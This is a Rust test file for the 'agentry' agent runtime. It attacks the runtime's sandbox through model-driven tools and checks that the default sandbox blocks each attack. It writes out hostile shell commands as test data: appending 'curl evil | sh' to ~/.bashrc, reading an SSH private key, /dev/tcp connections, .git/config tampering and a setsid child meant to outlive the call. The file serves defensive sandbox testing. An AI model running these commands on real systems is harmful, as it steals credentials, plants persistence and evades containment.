//! The kernel sandbox through agentry, attacked from every surface a model
//! drives: `proc.run`, a command tool, an acceptance command and a stdio MCP
//! server (agentry-mcp's test server, its `sh` tool). Each attack is shown to
//! get through with `[sandbox] mode = "off"` and to fail under the default
//! (workspace-write, no network), judged by its own evidence (a file it can
//! only write if the attack worked) — plus ordinary work under the default,
//! the `ESANDBOX` envelope, and the sandbox in the trace.
//!
//! The operator's home is a fake one (`<root>/home`, given as
//! `RunConfig::sandbox_host.home`): its `.ssh` is what the defaults hide.

use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use agentry::protocol::accept::AcceptCheck;
use agentry::runtime::sandbox::{SandboxHost, runs_root};
use agentry::sandbox::{Mode, SandboxSpec};
use agentry::tools::proc::{CommandTool, reap_orphans_here};
use agentry::{ErrorCode, RunConfig, Runtime, StopReason, TaskSpec, ToolContract};
use agentry_test_support::{
    ScriptBuilder, TestError, TestTask, run_with_events, runtime_with, tool_results,
};
use serde_json::json;

/// Where a model's command runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Surface {
    ProcRun,
    CommandTool,
    Acceptance,
    McpServer,
}

const SURFACES: [Surface; 4] = [
    Surface::ProcRun,
    Surface::CommandTool,
    Surface::Acceptance,
    Surface::McpServer,
];

/// What the attack leaves in the working directory when it worked.
const EVIDENCE: &str = "evidence.txt";

/// One attack's world: a task (its working directory), the fake home with a
/// planted key, and the sandbox the run gets.
struct World {
    task: TestTask,
    home: PathBuf,
    mode: Mode,
}

impl World {
    fn new(mode: Mode) -> Result<World, TestError> {
        let task = TestTask::new("attack", &[])?;
        let home = task.root().join("home");
        std::fs::create_dir_all(home.join(".ssh"))?;
        std::fs::write(home.join(".ssh/id_ed25519"), "PLANTED-KEY")?;
        std::fs::create_dir_all(task.workdir().join(".git"))?;
        std::fs::write(task.workdir().join(".git/config"), "[core]\n")?;
        Ok(World { task, home, mode })
    }

    fn host(&self) -> SandboxHost {
        SandboxHost {
            home: Some(self.home.clone()),
            deny: Vec::new(),
        }
    }

    fn spec(&self) -> SandboxSpec {
        SandboxSpec {
            mode: self.mode,
            ..SandboxSpec::default()
        }
    }

    fn config(&self) -> RunConfig {
        let mut config = self.task.config();
        config.sandbox = self.spec();
        config.sandbox_host = self.host();
        config
    }

    fn evidence(&self) -> Option<String> {
        std::fs::read_to_string(self.task.workdir().join(EVIDENCE)).ok()
    }
}

/// Runs `command` (`sh -c`) from `surface` in `world`'s run, to its end (MCP
/// servers shut down too).
async fn attack(surface: Surface, world: &World, command: &str) -> Result<(), TestError> {
    reap_orphans_here()?;
    let mut config = world.config();
    let argv = json!(["sh", "-c", command]);
    let (runtime, script, _mcp) = match surface {
        Surface::ProcRun => {
            config.grants = agentry::Grants::new(["proc.run"]);
            let script = ScriptBuilder::new().call("a", "proc.run", json!({ "argv": argv }));
            (Runtime::with_builtins()?, script, None)
        }
        Surface::CommandTool => {
            config.grants = agentry::Grants::new(["attack"]);
            let tool = CommandTool::new(
                ToolContract::new(
                    "attack",
                    "Runs a script.",
                    json!({"type": "object", "properties": {"script": {"type": "string"}}}),
                ),
                ["sh", "-c", "{script}"],
            )?;
            let script = ScriptBuilder::new().call("a", "attack", json!({ "script": command }));
            (runtime_with(vec![Arc::new(tool)])?, script, None)
        }
        Surface::Acceptance => {
            config.accept = vec![AcceptCheck::Command {
                argv: vec!["sh".into(), "-c".into(), command.into()],
                timeout_ms: 10_000,
            }];
            (Runtime::with_builtins()?, ScriptBuilder::new(), None)
        }
        Surface::McpServer => {
            let (runtime, mcp) = mcp_runtime(world).await?;
            config.grants = agentry::Grants::new(["t.*"]);
            // The `sh` tool is unannotated (irreversible_external): no human here.
            config.approval.irreversible = false;
            let script = ScriptBuilder::new().call("a", "t.sh", json!({ "command": command }));
            (runtime, script, Some(mcp))
        }
    };
    let policy = script.finish("done").policy();
    let (_outcome, _events) = run_with_events(&runtime, config, policy).await?;
    if let Some(mcp) = _mcp {
        mcp.shutdown().await;
    }
    Ok(())
}

/// A runtime with the test server's tools, the server started under the
/// world's sandbox (as `agentry run` does).
async fn mcp_runtime(world: &World) -> Result<(Runtime, agentry::mcp::McpServers), TestError> {
    let toml = format!(
        "goal = \"attack\"\n[sandbox]\nmode = \"{}\"\n[[tools.mcp]]\nname = \"t\"\ncommand = [{:?}]\n",
        world.mode.as_str(),
        super::mcp::test_server()?.display().to_string()
    );
    let dir = world.task.root().join("task");
    std::fs::create_dir_all(&dir)?;
    std::fs::write(dir.join("task.toml"), toml)?;
    let task = TaskSpec::load(&dir)?;
    let sandboxes = task.sandboxes(world.task.workdir(), &world.host())?;
    let mcp = task.start_mcp(world.task.workdir(), &sandboxes).await?;
    let runtime = task.runtime_with(&mcp)?;
    Ok((runtime, mcp))
}

/// Runs the attack from every surface, off and under the default, and
/// collects every case that went the wrong way. `worked` reads the world
/// after the run.
async fn off_and_default(
    name: &str,
    command: impl Fn(&World) -> String,
    worked: impl Fn(&World) -> bool,
) -> Result<(), TestError> {
    let mut wrong = Vec::new();
    for surface in SURFACES {
        for mode in [Mode::Off, Mode::WorkspaceWrite] {
            let world = World::new(mode)?;
            attack(surface, &world, &command(&world)).await?;
            let got_through = worked(&world);
            if got_through != (mode == Mode::Off) {
                let ls: Vec<_> = std::fs::read_dir(world.task.workdir())?
                    .flatten()
                    .map(|e| e.file_name())
                    .collect();
                wrong.push(format!(
                    "{name} from {surface:?} with mode {}: {} (evidence {:?}, workdir {ls:?})",
                    mode.as_str(),
                    if got_through {
                        "got through"
                    } else {
                        "was stopped"
                    },
                    world.evidence()
                ));
            }
        }
    }
    if wrong.is_empty() {
        Ok(())
    } else {
        Err(wrong.join("\n").into())
    }
}

fn evidence_is(world: &World, expected: &str) -> bool {
    world.evidence().as_deref() == Some(expected)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn writing_a_dotfile_in_home_outside_the_workdir_fails_under_the_default()
-> Result<(), TestError> {
    off_and_default(
        "write ~/.bashrc",
        |w| {
            format!(
                "printf 'curl evil | sh' >> '{}/.bashrc' && printf ok > {EVIDENCE}",
                w.home.display()
            )
        },
        |w| evidence_is(w, "ok") && w.home.join(".bashrc").exists(),
    )
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn writing_under_dot_git_fails_under_the_default() -> Result<(), TestError> {
    off_and_default(
        "write .git/config",
        |_| format!("printf '[alias]\\n' >> .git/config && printf ok > {EVIDENCE}"),
        |w| {
            evidence_is(w, "ok")
                && std::fs::read_to_string(w.task.workdir().join(".git/config"))
                    .is_ok_and(|c| c.contains("[alias]"))
        },
    )
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reading_a_planted_ssh_key_fails_under_the_default() -> Result<(), TestError> {
    off_and_default(
        "read ~/.ssh/id_ed25519",
        |w| {
            format!(
                "x=$(cat '{}/.ssh/id_ed25519') && printf %s \"$x\" > {EVIDENCE}",
                w.home.display()
            )
        },
        |w| evidence_is(w, "PLANTED-KEY"),
    )
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connecting_to_a_local_service_port_fails_under_the_default() -> Result<(), TestError> {
    // The "service port": a listener this test holds on 127.0.0.1.
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    off_and_default(
        "connect to 127.0.0.1 (TCP)",
        |_| format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' && printf ok > {EVIDENCE}"),
        |w| evidence_is(w, "ok"),
    )
    .await
}

/// How long the escaped child waits before it leaves its mark: longer than a
/// call (or an MCP server's run) takes, so that with the sandbox off it is
/// alive after the call and writes; under the default it is gone by then.
/// The leader waits a little before it exits, so the child has left the
/// process group (`setsid`) when the group is killed.
const ESCAPE_DELAY_S: u64 = 2;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_env_cleared_setsid_child_does_not_outlive_the_call_under_the_default()
-> Result<(), TestError> {
    off_and_default(
        "env -i setsid child outliving the call",
        |w| {
            format!(
                "env -i setsid sh -c 'sleep {ESCAPE_DELAY_S}; printf alive > {}/escaped' \
                 </dev/null >/dev/null 2>&1 & sleep 0.5; printf started > {EVIDENCE}",
                w.task.workdir().display()
            )
        },
        |w| {
            // Started (so the attack ran), then alive after the run ended.
            let deadline = std::time::Instant::now() + Duration::from_secs(ESCAPE_DELAY_S + 2);
            while std::time::Instant::now() < deadline {
                if w.task.workdir().join("escaped").exists() {
                    return evidence_is(w, "started");
                }
                std::thread::sleep(Duration::from_millis(50));
            }
            false
        },
    )
    .await
}

/// Another run's working directory, planted under the runs root
/// (`<private temp dir>/runs`, where `agentry run` makes them); removed on drop.
struct OtherRun(PathBuf);

impl OtherRun {
    fn plant() -> Result<OtherRun, TestError> {
        let dir = runs_root()?
            .join(format!("other-{}", std::process::id()))
            .join(format!("{:x}", fastrand_u64()));
        std::fs::create_dir_all(&dir)?;
        std::fs::write(dir.join("secret.txt"), "OTHER-RUN")?;
        Ok(OtherRun(dir))
    }
}

impl Drop for OtherRun {
    fn drop(&mut self) {
        if let Some(parent) = self.0.parent() {
            let _ = std::fs::remove_dir_all(parent);
        }
    }
}

fn fastrand_u64() -> u64 {
    use std::hash::{BuildHasher, RandomState};
    RandomState::new().hash_one(std::time::SystemTime::now())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reading_another_runs_working_directory_fails_under_the_default() -> Result<(), TestError> {
    let other = OtherRun::plant()?;
    let secret = other.0.join("secret.txt");
    off_and_default(
        "read another run's workdir",
        |_| {
            format!(
                "x=$(cat '{}') && printf %s \"$x\" > {EVIDENCE}",
                secret.display()
            )
        },
        |w| evidence_is(w, "OTHER-RUN"),
    )
    .await
}

/// The model is told what the sandbox refused, where, and which `[sandbox]`
/// key would allow it; the process's own output is kept in the message.
/// The result of one `proc.run` of `argv` in `world`'s run.
async fn one_proc_run(
    world: &World,
    argv: serde_json::Value,
) -> Result<agentry::protocol::ResultEnvelope, TestError> {
    let mut config = world.config();
    config.grants = agentry::Grants::new(["proc.run"]);
    let policy = ScriptBuilder::new()
        .call("a", "proc.run", json!({ "argv": argv }))
        .finish("done")
        .policy();
    let (_, events) = run_with_events(&Runtime::with_builtins()?, config, policy).await?;
    Ok(tool_results(&events)[0].1.clone())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_write_is_esandbox_naming_the_path_and_the_key() -> Result<(), TestError> {
    reap_orphans_here()?;
    let world = World::new(Mode::WorkspaceWrite)?;
    let target = world.home.join(".bashrc");
    let command = format!("echo before; printf x > '{}'", target.display());
    let result = &one_proc_run(&world, json!(["sh", "-c", command])).await?;
    assert_eq!(result.error_code(), Some(ErrorCode::Esandbox), "{result:?}");
    let error = result.error.as_ref().ok_or("no error")?;
    assert!(
        error.message.contains(&target.display().to_string()),
        "{}",
        error.message
    );
    assert!(
        error.message.contains("\"stdout\":\"before\\n\""),
        "{}",
        error.message
    );
    assert!(
        error.message.contains("\"exit_code\":"),
        "{}",
        error.message
    );
    let action = error.suggested_action.as_deref().unwrap_or_default();
    assert!(action.contains("[sandbox] write"), "{action}");

    // A refused connection names `network` and the address.
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let world = World::new(Mode::WorkspaceWrite)?;
    let command = format!("exec 3<>/dev/tcp/127.0.0.1/{port}");
    let result = &one_proc_run(&world, json!(["bash", "-c", command])).await?;
    assert_eq!(result.error_code(), Some(ErrorCode::Esandbox), "{result:?}");
    let error = result.error.as_ref().ok_or("no error")?;
    assert!(
        error.message.contains(&format!("127.0.0.1:{port}")),
        "{}",
        error.message
    );
    let action = error.suggested_action.as_deref().unwrap_or_default();
    assert!(action.contains("[sandbox] network"), "{action}");
    Ok(())
}

/// Granting exactly the port lets the connection through (and only that
/// port): the way a test or a task reaches a local mock service.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_granted_port_is_reached_and_another_is_refused() -> Result<(), TestError> {
    reap_orphans_here()?;
    let granted = TcpListener::bind("127.0.0.1:0")?;
    let other = TcpListener::bind("127.0.0.1:0")?;
    let (granted, other) = (granted.local_addr()?.port(), other.local_addr()?.port());
    let world = World::new(Mode::WorkspaceWrite)?;
    let mut config = world.config();
    config.grants = agentry::Grants::new(["proc.run"]);
    config.sandbox.network =
        agentry::sandbox::Network::Allow(vec![format!("127.0.0.1:{granted}").parse()?]);
    let reach =
        |port: u16| json!({"argv": ["bash", "-c", format!("exec 3<>/dev/tcp/127.0.0.1/{port}")]});
    let policy = ScriptBuilder::new()
        .call("a", "proc.run", reach(granted))
        .call("b", "proc.run", reach(other))
        .finish("done")
        .policy();
    let (_, events) = run_with_events(&Runtime::with_builtins()?, config, policy).await?;
    let results = tool_results(&events);
    assert_eq!(
        results[0].1.data.as_ref().map(|d| d["exit_code"].clone()),
        Some(json!(0)),
        "{:?}",
        results[0].1
    );
    assert_eq!(
        results[1].1.error_code(),
        Some(ErrorCode::Esandbox),
        "{:?}",
        results[1].1
    );
    Ok(())
}

/// Ordinary work goes on under the default: git in a repository, a Python
/// script writing its output, `$TMPDIR` (the call's own, removed after it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ordinary_work_succeeds_under_the_default() -> Result<(), TestError> {
    reap_orphans_here()?;
    let world = World::new(Mode::WorkspaceWrite)?;
    std::fs::remove_dir_all(world.task.workdir().join(".git"))?;
    let init = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(world.task.workdir())
        .status()?;
    assert!(init.success());
    world.task.write_file("src/lib.txt", "hello")?;
    let mut config = world.config();
    config.grants = agentry::Grants::new(["proc.run"]);
    let work = "git status --porcelain \
        && python3 -c \"open('out.txt', 'w').write('written by python')\" \
        && echo scratch > \"$TMPDIR/scratch\" && cat \"$TMPDIR/scratch\" \
        && mkdir -p build && cp src/lib.txt build/lib.txt \
        && printf %s \"$TMPDIR\" > tmpdir.txt";
    let policy = ScriptBuilder::new()
        .call("a", "proc.run", json!({"argv": ["sh", "-c", work]}))
        .finish("done")
        .policy();
    let (outcome, events) = run_with_events(&Runtime::with_builtins()?, config, policy).await?;
    assert_eq!(outcome.stop_reason, StopReason::Done, "{}", outcome.detail);
    let result = &tool_results(&events)[0].1;
    let data = result.data.as_ref().ok_or_else(|| format!("{result:?}"))?;
    assert_eq!(data["exit_code"], json!(0), "{data}");
    assert!(
        data["stdout"].as_str().unwrap_or("").contains("?? src/"),
        "{data}"
    );
    assert!(
        data["stdout"].as_str().unwrap_or("").contains("scratch"),
        "{data}"
    );
    assert_eq!(world.task.read_file("out.txt")?, "written by python");
    assert_eq!(world.task.read_file("build/lib.txt")?, "hello");
    let tmpdir = PathBuf::from(world.task.read_file("tmpdir.txt")?);
    assert!(
        !tmpdir.starts_with(world.task.workdir()),
        "{}",
        tmpdir.display()
    );
    assert!(
        !tmpdir.exists(),
        "the call's TMPDIR {} outlived it",
        tmpdir.display()
    );
    Ok(())
}

/// The trace says what each process tool's call ran under, and what the run
/// ran under: `mode = "off"` says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_trace_records_the_sandbox_of_each_call_and_of_the_run() -> Result<(), TestError> {
    reap_orphans_here()?;
    for mode in [Mode::WorkspaceWrite, Mode::Off] {
        let world = World::new(mode)?;
        let mut config = world.config();
        config.trace = Some(world.task.trace_path());
        config.grants = agentry::Grants::new(["proc.run", "fs.read"]);
        world.task.write_file("a.txt", "a")?;
        let policy = ScriptBuilder::new()
            .call("p", "proc.run", json!({"argv": ["true"]}))
            .and_call("r", "fs.read", json!({"path": "a.txt"}))
            .finish("done")
            .policy();
        let (outcome, _) = run_with_events(&Runtime::with_builtins()?, config, policy).await?;
        assert_eq!(outcome.stop_reason, StopReason::Done, "{}", outcome.detail);
        let lines = world.task.read_trace()?;
        let step = lines
            .iter()
            .find(|l| l["kind"] == "step")
            .ok_or("no step line")?;
        let sandboxes = step["sandboxes"]
            .as_array()
            .ok_or_else(|| format!("{step}"))?;
        assert_eq!(sandboxes.len(), 1, "only the process tool's call: {step}");
        assert_eq!(sandboxes[0]["tool_call_id"], "p");
        assert_eq!(sandboxes[0]["sandbox"]["mode"], mode.as_str());
        let stop = lines
            .iter()
            .find(|l| l["kind"] == "stop")
            .ok_or("no stop line")?;
        assert_eq!(stop["sandbox"]["mode"], mode.as_str(), "{stop}");
        match mode {
            Mode::Off => assert!(stop["sandbox"].get("limits").is_none(), "{stop}"),
            Mode::WorkspaceWrite | Mode::ReadOnly => {
                assert_eq!(stop["sandbox"]["network"], json!(false), "{stop}");
                assert_eq!(stop["sandbox"]["limits"]["processes"], json!(256), "{stop}");
            }
        }
    }
    Ok(())
}

/// A spec the host cannot prepare fails the start, naming why: here a
/// network grant whose host does not resolve.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sandbox_that_cannot_be_prepared_fails_the_start() -> Result<(), TestError> {
    let world = World::new(Mode::WorkspaceWrite)?;
    let mut config = world.config();
    config.sandbox.network =
        agentry::sandbox::Network::Allow(vec!["no-such-host.invalid:80".parse()?]);
    let policy = ScriptBuilder::new().finish("done").policy();
    let err = Runtime::with_builtins()?
        .start(config, policy)
        .await
        .err()
        .ok_or("the run started")?;
    assert!(
        matches!(err, agentry::RuntimeError::Sandbox { .. }),
        "{err:?}"
    );
    assert!(err.to_string().contains("no-such-host.invalid"), "{err}");
    Ok(())
}
